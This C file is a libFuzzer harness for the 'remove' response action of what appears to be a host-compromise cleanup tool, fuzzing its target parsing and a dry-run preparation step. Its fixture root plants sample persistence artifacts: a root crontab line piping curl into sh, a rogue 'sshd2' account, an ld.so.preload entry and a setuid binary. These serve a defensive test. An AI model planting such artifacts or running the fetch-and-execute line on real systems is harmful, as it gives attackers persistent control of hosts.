/*
 * fuzz_remove_target.c — libFuzzer target: what the remove kind takes from
 * outside: a command-line target (RULE:PATH[:LINE]), a finding (propose)
 * and a target object from an edited plan (prepare, as a dry run, over a
 * small temporary root). Arbitrary bytes must give a target or a refusal,
 * never a crash, leak or undefined behaviour, and a dry run never changes
 * the root.
 */
#include "core/host.h"
#include "core/log.h"
#include "respond/kinds.h"

#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static char root[] = "/tmp/rasoat-fuzz-remove-XXXXXX";
static rs_host host;

static void put(const char *rel, const char *text, mode_t mode)
{
	char path[256];
	snprintf(path, sizeof(path), "%s/%s", root, rel);
	FILE *f = fopen(path, "w");
	if (!f)
		abort();
	fputs(text, f);
	fclose(f);
	chmod(path, mode);
}

static void cleanup(void)
{
	static const char *const files[] = { "etc/crontab", "etc/passwd", "etc/ld.so.preload", "bin/s" };
	char path[256];
	for (size_t i = 0; i < sizeof(files) / sizeof(files[0]); i++) {
		snprintf(path, sizeof(path), "%s/%s", root, files[i]);
		unlink(path);
	}
	snprintf(path, sizeof(path), "%s/etc", root);
	rmdir(path);
	snprintf(path, sizeof(path), "%s/bin", root);
	rmdir(path);
	rmdir(root);
	rs_host_free(&host);
}

static void init(void)
{
	if (!mkdtemp(root))
		abort();
	char path[256];
	snprintf(path, sizeof(path), "%s/etc", root);
	mkdir(path, 0755);
	snprintf(path, sizeof(path), "%s/bin", root);
	mkdir(path, 0755);
	put("etc/crontab", "SHELL=/bin/sh\n*/5 * * * * root curl x | sh\n", 0644);
	put("etc/passwd", "root:x:0:0::/root:/bin/bash\nsshd2:x:120:65534::/run:/bin/bash\n", 0644);
	put("etc/ld.so.preload", "/lib/x.so\n", 0644);
	put("bin/s", "x", 04755);
	if (rs_host_init(&host, root, "") < 0)
		abort();
	atexit(cleanup);
}

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
{
	static int ready;
	if (!ready) {
		rs_log_set_quiet(true);
		init();
		ready = 1;
	}
	char err[1024];
	char *arg = malloc(size + 1);
	memcpy(arg, data, size);
	arg[size] = '\0';
	json_t *t = rs_kind_remove.parse_target(arg, NULL, err, sizeof(err));
	json_decref(t);
	free(arg);

	json_t *doc = json_loadb((const char *)data, size, 0, NULL);
	if (json_is_object(doc)) {
		json_t *actions = json_array();
		rs_kind_remove.propose(doc, &host, actions);
		json_decref(actions);
		rs_respond_ctx ctx = { .host = &host, .state_dir = root, .dry_run = true };
		json_t *before = json_object(), *describe = json_array();
		rs_kind_remove.prepare(&ctx, doc, before, describe, err, sizeof(err));
		if (json_object_get(before, "images"))
			abort(); /* a dry run takes no image */
		json_decref(before);
		json_decref(describe);
	}
	json_decref(doc);
	return 0;
}
